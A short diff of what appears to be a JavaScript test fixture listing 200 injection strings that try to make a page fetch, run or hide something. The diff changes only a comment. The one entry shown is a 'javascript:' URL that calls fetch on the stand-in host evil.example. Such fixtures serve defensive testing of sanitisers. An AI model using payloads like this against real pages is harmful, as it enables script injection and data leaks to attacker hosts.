@@ -1,4 +1,4 @@
-// 200 texts that try to make the page fetch, run or hide something. Every one names `evil.example`, so that a request shows.
+// 200 texts that try to make the page fetch, run or hide something. They name `evil.example`.
 
 const SCRIPTS = [
   'javascript:fetch("//evil.example")',
